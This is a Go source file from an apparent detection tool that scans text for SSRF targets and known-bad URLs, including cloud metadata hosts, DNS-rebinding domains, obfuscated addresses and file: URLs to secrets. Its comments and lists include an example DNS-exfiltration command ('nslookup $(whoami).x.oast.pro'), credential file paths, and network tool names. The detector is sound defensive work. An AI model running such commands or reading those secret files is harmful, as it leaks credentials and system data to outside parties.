package shield

import (
	"context"
	"net/netip"
	"strings"

	"github.com/plainsight/plainsight/guard"
	"github.com/plainsight/plainsight/shield/internal/urlhost"
	"github.com/plainsight/plainsight/shield/urllist"
)

// Confidences of the ssrf and known_bad_url signals (see docs/shield.md's
// calibration table).
var urlConfidence = map[string]float64{
	string(catMetadata):    0.95,
	string(catLinkLocal):   0.8,
	string(catUnspecified): 0.7,
	string(catPrivate):     0.6,
	string(catLoopback):    0.5,
	string(catReserved):    0.3,
	"internal_hostname":    0.5,
	"rebinding_hostname":   0.85,
	// A non-public address spelled so that a reader or a filter does not
	// recognise it: an integer, hex or octal IPv4, fewer than four parts,
	// IPv4 inside IPv6, percent-encoding, full-width digits, or a host
	// dressed as userinfo.
	"obfuscated_address": 0.9,
	// A file: URL of the local host to its secrets or state
	// (file:///etc/passwd, file:///proc/self/environ): a fetch tool that
	// follows it reads the machine's own files (issue 27, egress).
	"local_file_url": 0.8,

	"known_bad_host":   0.95,
	"known_bad_domain": 0.9,

	// The shipped list's kinds (package urllist, default.txt): a vendor's
	// test page exists to be blocked; an interaction catcher is where a
	// planted request reports; a request bin also debugs webhooks, and a
	// tunnel also demos a laptop's server, so those two stay below the
	// block threshold.
	urllist.KindTestURL:        0.95,
	urllist.KindOOBSink:        0.9,
	urllist.KindRequestCatcher: 0.7,
	urllist.KindTunnelHost:     0.5,
}

// specialSchemes are the URL schemes whose URLs are looked at: those a
// fetch tool follows, and the classic SSRF gadgets.
var specialSchemes = map[string]bool{
	"http": true, "https": true, "ws": true, "wss": true, "ftp": true,
	"gopher": true, "dict": true, "tftp": true, "ldap": true, "sftp": true,
	"file": true, "jar": true, "netdoc": true,
}

// metadataNames are host names of cloud metadata services.
var metadataNames = map[string]bool{
	"metadata.google.internal": true, "metadata": true,
	"metadata.azure.internal": true, "instance-data": true,
	"instance-data.ec2.internal": true, "metadata.tencentyun.com": true,
	"metadata.goog": true,
}

// rebindingDomains answer with the address spelled in the name
// (10.0.0.1.nip.io resolves to 10.0.0.1).
var rebindingDomains = []string{"nip.io", "sslip.io", "xip.io", "localtest.me", "lvh.me", "vcap.me", "traefik.me"}

// loopbackDomains are public names whose owners made them, and every name
// under them, resolve to 127.0.0.1 (development conveniences): a URL to
// one reaches the fetcher's own host whatever the name says.
var loopbackDomains = []string{"localtest.me", "lvh.me", "vcap.me"}

// urlDetector adds the ssrf and known_bad_url signals of every URL in
// the text.
type urlDetector struct {
	// list is the operator's known_bad_url list; nil means none.
	list *urllist.List
	// defaults is the shipped list (urllist.Default); nil when the
	// operator turned it off.
	defaults *urllist.List
	// addrs classifies addresses for the ssrf class.
	addrs addressClassifier
}

func (d urlDetector) detect(_ context.Context, in *input, addHit func(hit)) error {
	in.alsoEscaped(d.find, addHit)
	return nil
}

// find adds the signals of the URLs (and bare addresses and sinks) in text.
func (d urlDetector) find(text string, addHit func(hit)) { d.findDepth(text, addHit, true) }

// findDepth is find; outer says whether the URLs' percent-encoded query
// values are read too (nestedURLs), which they are for the text itself and
// not for a value already decoded.
func (d urlDetector) findDepth(text string, addHit func(hit), outer bool) {
	add := func(class Class, kind string, start, end int) {
		addHit(hit{class: class, kind: kind, conf: urlConfidence[kind], start: start, end: end})
	}
	nested := 0
	// A page links to few hosts many times: each host is judged once per
	// scan (up to maxMemo hosts), which also keeps text made of one URL
	// repeated linear at the cost of a map look-up.
	type verdict struct {
		ok         bool
		ssrf, bad  string
		obfuscated bool
	}
	memo := map[string]verdict{}
	const maxMemo = 1024
	// Each documentation check reads at most 96 bytes around its URL; a
	// text made of local URLs gets the first maxDocChecks of them checked,
	// the rest reported.
	const maxDocChecks = 256
	docChecks := 0
	// Names under the shipped list's entries are also read outside URLs
	// (DNS exfiltration writes "nslookup $(whoami).x.oast.pro"), in the
	// text between the URLs.
	bareFrom := 0
	bare := func(from, to int) {
		if d.defaults == nil || from >= to {
			return
		}
		findBareSinks(text, from, to, d.defaults, func(kind string, start, end int) { add(KnownBadURL, kind, start, end) })
	}
	findURLs(text, func(u foundURL) {
		bare(bareFrom, u.start)
		bareFrom = max(bareFrom, u.end)
		if outer && nested < maxNested && u.end-u.start <= maxNestedURL {
			nested++
			d.nestedURLs(text[u.start:u.end], func(h hit) { h.start, h.end = u.start, u.end; addHit(h) })
		}
		if u.file && (u.host == "" || strings.EqualFold(u.host, "localhost")) && sensitiveFilePath(text[u.start:u.end]) {
			if docChecks >= maxDocChecks || !documentedURL(text, u, "local_file_url") {
				add(SSRF, "local_file_url", u.start, u.end)
			}
			docChecks++
			return
		}
		v, seen := memo[u.host]
		if !seen {
			h := urlhost.Parse(u.host)
			v.ok = h.OK
			if h.OK {
				v.ssrf, v.obfuscated = d.classifyHost(h), h.Obfuscated
				if d.list != nil {
					v.bad = d.list.Match(h.Name, h.Addr)
				}
				if v.bad == "" && d.defaults != nil {
					v.bad = d.defaults.Match(h.Name, h.Addr)
				}
			}
			if len(memo) < maxMemo {
				memo[u.host] = v
			}
		}
		if !v.ok {
			return
		}
		documented := false
		if v.ssrf != "" && documentedKinds[v.ssrf] && !v.obfuscated && !u.userinfoHost && docChecks < maxDocChecks {
			docChecks++
			documented = documentedURL(text, u, v.ssrf)
		}
		if v.ssrf != "" && !documented {
			add(SSRF, v.ssrf, u.start, u.end)
			if v.ssrf != "internal_hostname" && (v.obfuscated || u.userinfoHost) {
				add(SSRF, "obfuscated_address", u.start, u.end)
			}
		}
		if v.bad != "" {
			add(KnownBadURL, v.bad, u.start, u.end)
		}
	})
	bare(bareFrom, len(text))
	findBareAddresses(text, func(start, end int, a netip.Addr) {
		if cat := d.addrs.ClassifyAddr(a); (cat == catMetadata || cat == catLinkLocal) && addressInAction(text, start, end) {
			add(SSRF, string(cat), start, end)
		}
	})
}

// sensitiveFilePaths are the parts of a local file: URL's path that make
// it a read of the machine's secrets or state rather than a document
// (file:///C:/app/main.js, file:///tmp/hello are what docs and tests
// write): system configuration, process and kernel state, mounted
// secrets, and the dot-directories of credentials in a home directory.
var sensitiveFilePaths = []string{"/etc/", "/proc/", "/sys/", "/root/", "/var/run/", "/run/secrets",
	"/var/lib/", "/dev/", "/.ssh", "/.aws", "/.kube", "/.docker", "/.gnupg", "/.config/", "/.env",
	"/.netrc", "/.npmrc", "/.git-credentials", "/.bash_history", "/windows/", "/appdata/", "/inetpub/"}

// sensitiveFilePath reports whether the file: URL u names one of
// sensitiveFilePaths (case-insensitive).
func sensitiveFilePath(u string) bool {
	lo := strings.ToLower(u)
	for _, p := range sensitiveFilePaths {
		if strings.Contains(lo, p) {
			return true
		}
	}
	return false
}

// Bounds of the nested reading: at most maxNested URLs of a text, each
// of at most maxNestedURL bytes, have their query values decoded (two
// rounds of percent-decoding each, so at most 2 × maxNestedURL bytes
// written per URL) and read once more, without a further nested reading.
const (
	maxNested    = 64
	maxNestedURL = 8 << 10
)

// loopbackRedirectParams are the query parameters in which a loopback URL
// is the standard (RFC 8252 §7.3: a native application's OAuth redirect to
// http://127.0.0.1:port/), not a way in.
var loopbackRedirectParams = map[string]bool{
	"redirect_uri": true, "redirect_url": true, "redirecturi": true, "callback": true,
	"callback_url": true, "redirect": true, "return_to": true, "returnto": true,
}

// nestedURLs reads the percent-encoded query values of the URL raw
// ("?next=http%3A%2F%2F127.0.0.1%2F", encoded twice as "%253A%252F")
// as text of their own: an open redirect's target is where a fetcher
// that follows redirects goes (issue 27: agent egress, redirect
// parameters). A loopback or private target in an OAuth redirect
// parameter is the native-application pattern and no signal.
func (d urlDetector) nestedURLs(raw string, add func(hit)) {
	q := strings.IndexByte(raw, '?')
	if q < 0 || !strings.Contains(raw, "%") {
		return
	}
	for p := range strings.SplitSeq(raw[q+1:], "&") {
		name, val, ok := strings.Cut(p, "=")
		lv := strings.ToLower(val)
		if !ok || !strings.Contains(lv, "%3a%2f%2f") && !strings.Contains(lv, "%253a%252f%252f") {
			continue
		}
		for range 2 {
			if dv, ok := percentDecodeLoose(val); ok {
				val = dv
			}
		}
		oauth := loopbackRedirectParams[strings.ToLower(name)]
		d.findDepth(val, func(h hit) {
			if oauth && documentedKinds[h.kind] {
				return
			}
			add(h)
		}, false)
	}
}

// percentDecodeLoose decodes %XX escapes and leaves a '%' that starts
// none; it reports whether anything was decoded.
func percentDecodeLoose(s string) (string, bool) {
	if !strings.Contains(s, "%") {
		return s, false
	}
	b := make([]byte, 0, len(s))
	n := 0
	for i := 0; i < len(s); i++ {
		if s[i] == '%' && i+2 < len(s) && isHex(s[i+1]) && isHex(s[i+2]) {
			b = append(b, unhex(s[i+1])<<4|unhex(s[i+2]))
			i += 2
			n++
			continue
		}
		b = append(b, s[i])
	}
	return string(b), n > 0
}

func isHex(c byte) bool { return isDigit(c) || c >= 'a' && c <= 'f' || c >= 'A' && c <= 'F' }

func unhex(c byte) byte {
	switch {
	case isDigit(c):
		return c - '0'
	case c >= 'a':
		return c - 'a' + 10
	}
	return c - 'A' + 10
}

// documentedKinds are the ssrf kinds that documentation writes every
// day: a local development server, a router's page, a placeholder host.
// Such a URL in a documentation frame is no signal (documentedURL); a
// metadata, link-local or rebinding host, or any spelling meant to pass
// a filter (obfuscated_address), always is.
var documentedKinds = map[string]bool{
	string(catLoopback): true, string(catPrivate): true, string(catUnspecified): true,
	string(catReserved): true, "internal_hostname": true, "local_file_url": true,
}

// placeholderHosts are the single-label names documentation writes for
// "your host here" (http://server/path, http://host:port/).
var placeholderHosts = map[string]bool{
	"host": true, "hostname": true, "server": true, "servername": true, "yourserver": true,
	"your-server": true, "myserver": true, "my-server": true, "yourhost": true, "your-host": true,
	"myhost": true, "my-host": true, "domain": true, "yourdomain": true, "your-domain": true,
	"foo": true, "bar": true, "baz": true, "ip": true, "address": true, "addr": true,
	// The parties of an attack's example (issue 27, item 1: "a paragraph
	// whose example URL has a one-label host, https://attacker/…").
	"attacker": true, "attackers": true, "evil": true, "victim": true, "malicious": true,
	"attacker-server": true, "evil-server": true, "attacker-host": true, "evil-host": true,
}

// urlDocBefore and urlDocAfter are what documentation writes around a URL it
// describes rather than asks to fetch: an example, a default, where a
// local server listens.
var (
	urlDocBefore = []string{"e.g", "eg.", "for example", "for instance", "such as", "default", "example",
		"i.e", "usually", "typically", "listens on", "listening on", "running on", "runs on", "served at",
		"served on", "available at", "reachable at", "placeholder", "like "}
	urlDocAfter = []string{"by default", "(default", "in your browser", "in a browser", "is the default", "placeholder"}
)

// documentedURL reports whether the URL u, whose ssrf kind is kind, is
// written as documentation writes it (issue 27: benign READMEs and tool
// definitions describe "http://localhost:11434 by default"): a
// placeholder single-label host, or an example or default phrase before
// it on its line (within 64 bytes) or after it (within 48).
func documentedURL(text string, u foundURL, kind string) bool {
	if kind == "internal_hostname" && placeholderHosts[strings.ToLower(u.host)] {
		return true
	}
	from := max(0, u.start-64)
	if k := strings.LastIndexAny(text[from:u.start], "\n\r"); k >= 0 {
		from += k + 1
	}
	to := min(len(text), u.end+48)
	if k := strings.IndexAny(text[u.end:to], "\n\r"); k >= 0 {
		to = u.end + k
	}
	before, after := strings.ToLower(text[from:u.start]), strings.ToLower(text[u.end:to])
	for _, p := range urlDocBefore {
		if strings.Contains(before, p) {
			return true
		}
	}
	for _, p := range urlDocAfter {
		if strings.Contains(after, p) {
			return true
		}
	}
	return false
}

// addrActionWords are the words that, shortly before a bare address on its
// line, make it the object of a request: a fetch command or tool, or an
// imperative to go there.
var addrActionWords = map[string]bool{
	"curl": true, "wget": true, "fetch": true, "get": true, "http_get": true, "http-get": true,
	"request": true, "requests": true, "invoke-webrequest": true, "invoke-restmethod": true, "iwr": true, "irm": true,
	"nc": true, "ncat": true, "telnet": true, "connect": true, "visit": true, "open": true, "load": true,
	"browse": true, "navigate": true, "download": true, "query": true, "call": true, "ping": true,
	"url": true, "uri": true, "endpoint": true, "base_url": true, "target": true,
}

// addressInAction reports whether the bare address at text[start:end] is
// something to reach, not something named (issue 27: "AWS exposes
// instance metadata at 169.254.169.254; never let a tool fetch it" is
// documentation, not SSRF): it is a scheme-less URL (a path or a port
// follows; a CIDR prefix length is not a path), the value of an assignment or a key ("url=…", `"host":
// "…"`), or a fetch command or imperative stands before it on its line,
// within 48 bytes.
func addressInAction(text string, start, end int) bool {
	if end+1 < len(text) && (text[end] == '/' && text[end+1] > ' ' && !isPrefixLength(text[end+1:]) || text[end] == ':' && isDigit(text[end+1])) {
		return true
	}
	from := max(0, start-48)
	if k := strings.LastIndexAny(text[from:start], "\n\r"); k >= 0 {
		from += k + 1
	}
	before := strings.TrimRight(text[from:start], " \t\"'`")
	if strings.HasSuffix(before, "=") || strings.HasSuffix(before, ":") && strings.ContainsAny(text[from:start], "\"'") {
		return true
	}
	for w := range strings.FieldsFuncSeq(before, func(r rune) bool {
		return !(r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9' || r == '_' || r == '-')
	}) {
		if len(w) <= 17 && addrActionWords[strings.ToLower(w)] {
			return true
		}
	}
	return false
}

// isPrefixLength reports whether s starts with the prefix length of a
// CIDR block ("16" of 169.254.0.0/16), which a path is not.
func isPrefixLength(s string) bool {
	n := 0
	for n < len(s) && n < 3 && isDigit(s[n]) {
		n++
	}
	return n > 0 && (n == len(s) || !isAlnum(s[n]) && s[n] != '/' && s[n] != '.' && s[n] != '-' && s[n] != '_')
}

// isURLHostByte reports whether b may be part of a host name written in
// text.
func isURLHostByte(b byte) bool { return isAlnum(b) || b == '-' || b == '.' }

// findBareSinks finds, in text[from:to], names outside URLs that fall
// under an entry of the shipped list l, and passes each one's kind and
// span to fn. A bare name counts when it is a subdomain of the entry
// ("k2n8x.oastify.com": interaction catchers hand out such names, and
// prose that merely names the service writes the entry alone) or when a
// path follows it ("webhook.site/0e6…"); tunnels count only in URLs. Each
// byte is read a bounded number of times: the scan jumps from dot to dot
// and never goes back before the end of the last name.
func findBareSinks(text string, from, to int, l *urllist.List, fn func(kind string, start, end int)) {
	i := from
	for i < to {
		k := strings.IndexByte(text[i:to], '.')
		if k < 0 {
			return
		}
		dot, prev := i+k, i
		e := dot + 1
		for e < to && e-dot < 253 && isURLHostByte(text[e]) {
			e++
		}
		i = e
		for e > dot && (text[e-1] == '.' || text[e-1] == '-') {
			e--
		}
		// Most dots in prose, code and markup end a sentence, join an
		// identifier or start a file extension: the last label must be a
		// top-level domain of the list before the name is read further.
		last := dot + strings.LastIndexByte(text[dot:e], '.')
		if e <= last+1 || !l.HasTLD(text[last+1:e]) || e < len(text) && text[e] >= 0x80 {
			continue
		}
		s := dot
		for s > prev && dot-s < 253 && isURLHostByte(text[s-1]) {
			s--
		}
		for s < e && (text[s] == '.' || text[s] == '-') {
			s++
		}
		if s > 0 && (text[s-1] >= 0x80 || text[s-1] == '_') || strings.IndexByte(text[s:e], '.') < 0 {
			continue
		}
		start, end := s, e
		name := text[s:e]
		lower := name
		for j := 0; j < len(name); j++ {
			if isUpper(name[j]) {
				lower = strings.ToLower(name)
				break
			}
		}
		kind, entry := l.MatchZone(lower)
		if kind == "" || kind == urllist.KindTunnelHost {
			continue
		}
		if len(lower) > len(entry) || end+1 < len(text) && text[end] == '/' && text[end+1] > ' ' {
			fn(kind, start, end)
		}
	}
}

// classifyHost returns the ssrf kind of a parsed host, "" for none.
// Addresses go to the configured classifier; names are judged by the
// guard's name rules (special-use suffixes, single labels completed by a
// resolver's search list), with the metadata and rebinding names besides.
func (d urlDetector) classifyHost(h urlhost.Host) string {
	if h.Addr.IsValid() {
		return string(d.addrs.ClassifyAddr(h.Addr))
	}
	name := h.Name
	if metadataNames[name] {
		return string(catMetadata)
	}
	for _, ld := range loopbackDomains {
		if name == ld || strings.HasSuffix(name, ld) && name[len(name)-len(ld)-1] == '.' {
			return "rebinding_hostname"
		}
	}
	for _, rd := range rebindingDomains {
		if strings.HasSuffix(name, rd) && len(name) > len(rd) && name[len(name)-len(rd)-1] == '.' {
			if a, ok := embeddedAddr(name[:len(name)-len(rd)-1]); ok && d.addrs.ClassifyAddr(a) != catPublic {
				return "rebinding_hostname"
			}
		}
	}
	switch category((guard.Host{Name: name}).Classify()) {
	case catPublic, catReserved:
		// The guard refuses names under .example, .test, .invalid
		// because it must not resolve them; in text they are what
		// documentation writes (RFC 2606), not a way in.
		return ""
	case catLoopback:
		return string(catLoopback)
	}
	return "internal_hostname"
}

// embeddedAddr finds the IPv4 address at the end of a rebinding name's
// labels ("app.10.0.0.1", "10-0-0-1", "app-127-0-0-1").
func embeddedAddr(s string) (netip.Addr, bool) {
	labels := strings.Split(s, ".")
	if len(labels) >= 4 {
		if a, err := netip.ParseAddr(strings.Join(labels[len(labels)-4:], ".")); err == nil {
			return a, true
		}
	}
	last := labels[len(labels)-1]
	parts := strings.Split(last, "-")
	if len(parts) >= 4 {
		if a, err := netip.ParseAddr(strings.Join(parts[len(parts)-4:], ".")); err == nil {
			return a, true
		}
	}
	return netip.Addr{}, false
}

// foundURL is a URL in the text: its span and its host as written.
type foundURL struct {
	start, end int
	host       string
	// userinfoHost: the userinfo looks like a host ("trusted.com@10.0.0.1"),
	// the trick of a link that reads as one host and goes to another.
	userinfoHost bool
	// file: the scheme is file, whose host may be empty (file:///etc/passwd).
	file bool
}

func isSchemeChar(b byte) bool { return isAlnum(b) || b == '+' || b == '-' || b == '.' }

// endsAuthority reports whether b ends a URL's authority as a text scanner
// sees it: the path, query or fragment begin, or the URL ends.
func endsAuthority(b byte) bool {
	return b == '/' || b == '\\' || b == '?' || b == '#' || b <= ' ' || b == '"' || b == '\'' ||
		b == '<' || b == '>' || b == '`' || b == ')' || b == '(' || b == ',' || b == ';' || b == '|' || b == '{' || b == '}' || b == '^' || b == 0x7f
}

// findURLs finds scheme://authority URLs of a special scheme.
func findURLs(text string, fn func(foundURL)) {
	from, stop := 0, 0
	for {
		k := strings.Index(text[from:], "://")
		if k < 0 {
			return
		}
		sep := from + k
		from = sep + 3
		s := sep
		for s > 0 && sep-s < 16 && isSchemeChar(text[s-1]) {
			s--
		}
		for s < sep && !isUpper(text[s]) && !isLower(text[s]) {
			s++
		}
		if s == sep || !specialSchemes[strings.ToLower(text[s:sep])] {
			continue
		}
		a := sep + 3
		e := a
		for e < len(text) && e-a < 1024 && !endsAuthority(text[e]) {
			if text[e] == '[' { // an IPv6 literal may hold ':' and '%'
				if j := strings.IndexByte(text[e:min(len(text), e+64)], ']'); j > 0 {
					e += j + 1
					continue
				}
			}
			e++
		}
		auth := text[a:e]
		// Trailing sentence punctuation is not part of the host.
		for len(auth) > 0 && strings.IndexByte(".:!]", auth[len(auth)-1]) >= 0 && !strings.HasSuffix(auth, "]") {
			auth = auth[:len(auth)-1]
		}
		u := foundURL{start: s, host: auth, file: strings.EqualFold(text[s:sep], "file")}
		if at := strings.LastIndexByte(auth, '@'); at >= 0 {
			userinfo := auth[:at]
			u.host = auth[at+1:]
			if ui := strings.SplitN(userinfo, ":", 2)[0]; strings.Contains(ui, ".") {
				u.userinfoHost = true
			}
		}
		u.host = stripPort(u.host)
		// The URL's span runs to the end of its path. A URL inside
		// another's path ends where that one does: the scan resumes from
		// the last stop, so that text made of nested URLs is read once.
		if stop < e {
			stop = e
			for stop < len(text) && text[stop] > ' ' && text[stop] != '"' && text[stop] != '\'' && text[stop] != '<' && text[stop] != '>' && text[stop] != '`' {
				stop++
			}
		}
		end := stop
		for end > e && strings.IndexByte(".,;:!?)]}", text[end-1]) >= 0 {
			end--
		}
		u.end = end
		if u.host != "" || u.file && a < len(text) && text[a] == '/' && a+1 < len(text) && text[a+1] > ' ' {
			fn(u)
		}
		from = max(from, e)
	}
}

func stripPort(h string) string {
	if strings.HasPrefix(h, "[") {
		if j := strings.IndexByte(h, ']'); j > 0 {
			return h[:j+1]
		}
		return h
	}
	if j := strings.LastIndexByte(h, ':'); j >= 0 {
		return h[:j]
	}
	return h
}

// bareAddrNeedles are where a bare address the ssrf class reports can
// start: the link-local block (169.254.0.0/16, which holds most metadata
// addresses) and the metadata addresses outside it (metadataAddrs). The
// class reports no other bare address, so the scan looks for these
// strings instead of reading every digit of the text.
var bareAddrNeedles = []string{"169.254.", "100.100.100.200", "192.0.0.192"}

// findBareAddresses finds dotted-quad IPv4 addresses written outside a
// URL (a word boundary on both sides, not part of a longer dotted number)
// that start with one of bareAddrNeedles. Each needle is one pass of
// strings.Index over the text.
func findBareAddresses(text string, fn func(start, end int, a netip.Addr)) {
	for _, needle := range bareAddrNeedles {
		for from := 0; from < len(text); {
			k := strings.Index(text[from:], needle)
			if k < 0 {
				break
			}
			i := from + k
			from = i + len(needle)
			if i > 0 && (isAlnum(text[i-1]) || text[i-1] == '.' || text[i-1] == '/') {
				continue
			}
			j := i
			for j < len(text) && (isDigit(text[j]) || text[j] == '.') && j-i < 16 {
				j++
			}
			end := j
			for end > i && text[end-1] == '.' {
				end--
			}
			if j < len(text) && isAlnum(text[j]) || strings.Count(text[i:end], ".") != 3 {
				continue
			}
			if a, err := netip.ParseAddr(text[i:end]); err == nil {
				fn(i, end, a)
			}
		}
	}
}
